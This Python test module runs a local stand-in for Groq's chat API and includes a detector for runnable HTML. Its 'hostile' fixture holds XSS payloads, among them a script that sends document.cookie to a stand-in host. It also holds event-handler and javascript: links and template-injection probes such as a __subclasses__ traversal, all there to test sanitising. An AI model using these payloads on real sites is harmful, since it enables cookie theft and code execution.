"""A stand-in for Groq's OpenAI-compatible chat API, served on 127.0.0.1.

It answers ``POST /openai/v1/chat/completions`` (the ``groq`` SDK appends
``/openai/v1`` to its base URL) and checks what it receives the way Groq
does: the bearer key, the model, one user message with no system message
beside images, at most ``max_images`` images as base64 data URLs of real
PNG/JPEG/WebP bytes, and the request size. Each request is recorded with
its prompt and decoded images, so tests can assert on what was sent.

A test picks the answers with ``queue("429", "ok")``; once the queue is
empty, ``mode`` answers. Modes: ok, hostile, 401, 404, decommissioned, 413,
429, 500, 503, slow, empty.

As a process (for trying the API without a Groq key)::

    .venv/bin/python -m tests.groq_standin --port 8765 --mode ok
"""

from __future__ import annotations

import argparse
import base64
import binascii
import json
import re
import threading
import time
from collections import deque
from dataclasses import dataclass, field
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MODEL = "meta-llama/llama-4-scout-17b-16e-instruct"
KEY = "gsk_standin_0123456789abcdef"
PATH = "/openai/v1/chat/completions"
_DATA_URL = re.compile(r"^data:(image/(?:png|jpeg|webp));base64,([A-Za-z0-9+/=]+)$")

NORMAL_MARKDOWN = """\
# NYC taxi trips, January 2025

The dashboard summarises yellow-taxi trips for one month.

## Key figures
- **Trips:** 3.2 M
- **Average fare:** $18.40

| Borough | Share |
| --- | ---: |
| Manhattan | 88 % |
| Queens | 9 % |

## Trends
Trips peak on Fridays between 17:00 and 19:00.

## Anomalies
A handful of trips report negative totals.
"""

HOSTILE_MARKDOWN = """\
# Report <script>alert('title')</script>

<script>document.location='https://evil.example/?c='+document.cookie</script>

<img src=x onerror="alert('img')">

<a href="javascript:alert('raw')" onclick="alert('click')">raw link</a>

[markdown link](javascript:alert('md'))
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![pixel](https://evil.example/pixel.png)

<iframe src="https://evil.example"></iframe>
<svg onload="alert('svg')"></svg>
<style>body { display: none }</style>

## Template syntax
Seven times seven is {{ 7*7 }} and {{ config }}.
{% for x in range(3) %}loop{% endfor %}
{{ ''.__class__.__mro__[1].__subclasses__() }}
"""


class _ExecutableFinder(HTMLParser):
    """Collects what a browser could run or load from a page."""

    RUNNABLE_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "form", "base",
                     "link", "meta", "img", "video", "audio", "source", "frame", "frameset"}
    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcset",
                      "background", "poster", "data"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.styles = 0

    def handle_starttag(self, tag, attrs) -> None:
        if tag == "style":
            self.styles += 1
        elif tag == "meta" and all(name in ("charset", "name", "content")
                                   for name, _ in attrs):
            pass  # the template's own charset, viewport and referrer tags
        elif tag in self.RUNNABLE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag} {name}=")
            elif name in self.URL_ATTRIBUTES:
                scheme = (value or "").strip().lower().replace("\t", "").split(":", 1)
                if len(scheme) == 2 and scheme[0] not in ("http", "https", "mailto"):
                    self.found.append(f"{tag} {name}={value}")


def executable_content(html: str) -> list[str]:
    """Everything in ``html`` that could run script or load something: tags
    such as script, iframe or img, event-handler and style attributes, URLs
    with a scheme other than http(s) or mailto, and any <style> block besides
    the template's one. An empty list means the page is inert."""
    finder = _ExecutableFinder()
    finder.feed(html)
    finder.close()
    if finder.styles > 1:
        finder.found.append(f"{finder.styles} <style> blocks")
    return finder.found


@dataclass
class Received:
    """One request as the stand-in saw it."""

    path: str
    authorization: str
    body: dict
    size: int
    prompt: str = ""
    images: list[tuple[str, bytes]] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)


class GroqStandIn:
    """The server; ``with GroqStandIn() as groq:`` starts and stops it."""

    def __init__(self, *, mode: str = "ok", model: str = MODEL, key: str | None = KEY,
                 max_images: int = 5, max_request_bytes: int = 4 * 1024 * 1024,
                 retry_after: str = "0", slow_seconds: float = 3.0,
                 port: int = 0) -> None:
        self.mode = mode
        self.model = model
        self.key = key
        self.max_images = max_images
        self.max_request_bytes = max_request_bytes
        self.retry_after = retry_after
        self.slow_seconds = slow_seconds
        self.received: list[Received] = []
        self._queue: deque[str] = deque()
        self._lock = threading.Lock()
        self._stopping = threading.Event()
        self._server = ThreadingHTTPServer(("127.0.0.1", port), _handler_for(self))
        self._server.daemon_threads = True
        self._thread: threading.Thread | None = None

    @property
    def base_url(self) -> str:
        host, port = self._server.server_address[:2]
        return f"http://{host}:{port}"

    def queue(self, *modes: str) -> None:
        with self._lock:
            self._queue.extend(modes)

    def next_mode(self) -> str:
        with self._lock:
            return self._queue.popleft() if self._queue else self.mode

    def start(self) -> GroqStandIn:
        self._thread = threading.Thread(target=self._server.serve_forever,
                                        name="groq-standin", daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stopping.set()
        self._server.shutdown()
        self._server.server_close()
        if self._thread is not None:
            self._thread.join(timeout=5)

    def serve(self) -> None:
        """Serve in this thread until interrupted (the process mode)."""
        try:
            self._server.serve_forever()
        except KeyboardInterrupt:
            pass
        finally:
            self._server.server_close()

    def __enter__(self) -> GroqStandIn:
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()

    def pause(self, seconds: float) -> None:
        """The slow reply: wait, but stop waiting when the server stops."""
        self._stopping.wait(seconds)

    def inspect(self, path: str, headers, raw: bytes) -> tuple[Received, tuple | None]:
        """Record a request; return an error answer when Groq would refuse it."""
        received = Received(path=path, authorization=headers.get("authorization", ""),
                            body={}, size=len(raw))
        with self._lock:
            self.received.append(received)
        if path != PATH:
            return received, _error(404, f"Unknown path {path}", "unknown_url")
        if self.key is not None and received.authorization != f"Bearer {self.key}":
            return received, _error(401, "Invalid API Key", "invalid_api_key",
                                    "invalid_request_error")
        if len(raw) > self.max_request_bytes:
            return received, _error(413, "Request Entity Too Large", "request_too_large")
        try:
            received.body = json.loads(raw)
        except ValueError:
            return received, _error(400, "The request body is not JSON", "invalid_json")
        if received.body.get("model") != self.model:
            return received, _error(
                404, f"The model `{received.body.get('model')}` does not exist or you do "
                "not have access to it.", "model_not_found")
        problem = _read_messages(received, self.max_images)
        if problem:
            received.problems.append(problem)
            return received, _error(400, problem, "invalid_request")
        return received, None


def _read_messages(received: Received, max_images: int) -> str | None:
    messages = received.body.get("messages")
    if not isinstance(messages, list) or not messages:
        return "'messages' must be a non-empty list"
    has_images = False
    for message in messages:
        content = message.get("content")
        if isinstance(content, str):
            if message.get("role") == "user":
                received.prompt += content
            continue
        for part in content or []:
            if part.get("type") == "text":
                received.prompt += part.get("text", "")
            elif part.get("type") == "image_url":
                has_images = True
                match = _DATA_URL.match(part.get("image_url", {}).get("url", ""))
                if not match:
                    return "image_url must be a base64 data URL of a PNG, JPEG or WebP"
                try:
                    data = base64.b64decode(match.group(2), validate=True)
                except (binascii.Error, ValueError):
                    return "the image's base64 is malformed"
                if not _magic_matches(match.group(1), data):
                    return f"the image is not a valid {match.group(1)}"
                received.images.append((match.group(1), data))
    if has_images and any(m.get("role") == "system" for m in messages):
        return "prompting with images is incompatible with system messages"
    if len(received.images) > max_images:
        return f"Too many images provided. This model supports up to {max_images} images"
    return None


def _magic_matches(mime: str, data: bytes) -> bool:
    return {"image/png": data.startswith(b"\x89PNG\r\n\x1a\n"),
            "image/jpeg": data.startswith(b"\xff\xd8\xff"),
            "image/webp": data[:4] == b"RIFF" and data[8:12] == b"WEBP"}[mime]


def _error(status: int, message: str, code: str,
           kind: str = "invalid_request_error") -> tuple[int, dict, dict]:
    return status, {"error": {"message": message, "type": kind, "code": code}}, {}


def _completion(model: str, markdown: str | None) -> dict:
    return {
        "id": "chatcmpl-standin", "object": "chat.completion", "created": int(time.time()),
        "model": model,
        "choices": [{"index": 0, "finish_reason": "stop",
                     "message": {"role": "assistant", "content": markdown}}],
        "usage": {"prompt_tokens": 1234, "completion_tokens": 210, "total_tokens": 1444,
                  "prompt_time": 0.05, "completion_time": 0.4, "total_time": 0.45},
    }


def _answer(standin: GroqStandIn, mode: str, model: str) -> tuple[int, dict, dict]:
    if mode == "ok":
        return 200, _completion(model, NORMAL_MARKDOWN), {}
    if mode == "hostile":
        return 200, _completion(model, HOSTILE_MARKDOWN), {}
    if mode == "empty":
        return 200, _completion(model, ""), {}
    if mode == "slow":
        standin.pause(standin.slow_seconds)
        return 200, _completion(model, NORMAL_MARKDOWN), {}
    if mode == "401":
        return _error(401, "Invalid API Key", "invalid_api_key")
    if mode == "404":
        return _error(404, f"The model `{model}` does not exist or you do not have access "
                      "to it.", "model_not_found")
    if mode == "decommissioned":
        return _error(400, f"The model `{model}` has been decommissioned and is no longer "
                      "supported.", "model_decommissioned")
    if mode == "413":
        return _error(413, "Request Entity Too Large", "request_too_large")
    if mode == "429":
        status, body, _ = _error(429, "Rate limit reached for model: tokens per minute.",
                                 "rate_limit_exceeded", "tokens")
        return status, body, {"retry-after": standin.retry_after}
    if mode == "503":
        return _error(503, "Service Unavailable", "service_unavailable", "internal_error")
    return _error(500, "Internal Server Error", "internal_server_error", "internal_error")


def _handler_for(standin: GroqStandIn) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_POST(self) -> None:  # noqa: N802 - the name http.server looks for
            length = int(self.headers.get("content-length") or 0)
            raw = self.rfile.read(length)
            received, refusal = standin.inspect(self.path, self.headers, raw)
            if refusal is None:
                refusal = _answer(standin, standin.next_mode(),
                                  received.body.get("model", standin.model))
            status, body, headers = refusal
            data = json.dumps(body).encode()
            try:
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                for name, value in headers.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(data)
            except (BrokenPipeError, ConnectionResetError):
                pass  # the client gave up waiting (the slow reply)

        def log_message(self, format: str, *args) -> None:  # noqa: A002
            return

    return Handler


def main() -> None:
    parser = argparse.ArgumentParser(description="A stand-in Groq chat API on 127.0.0.1.")
    parser.add_argument("--port", type=int, default=8765)
    parser.add_argument("--mode", default="ok",
                        help="ok, hostile, 401, 404, decommissioned, 413, 429, 500, 503, "
                             "slow or empty (default ok)")
    parser.add_argument("--key", default=None,
                        help="the only key to accept; default: any key")
    parser.add_argument("--model", default=MODEL)
    args = parser.parse_args()
    standin = GroqStandIn(mode=args.mode, model=args.model, key=args.key, port=args.port)
    print(f"Groq stand-in on {standin.base_url} (mode {args.mode}); "
          f"set GROQ_BASE_URL={standin.base_url}", flush=True)
    standin.serve()


if __name__ == "__main__":
    main()
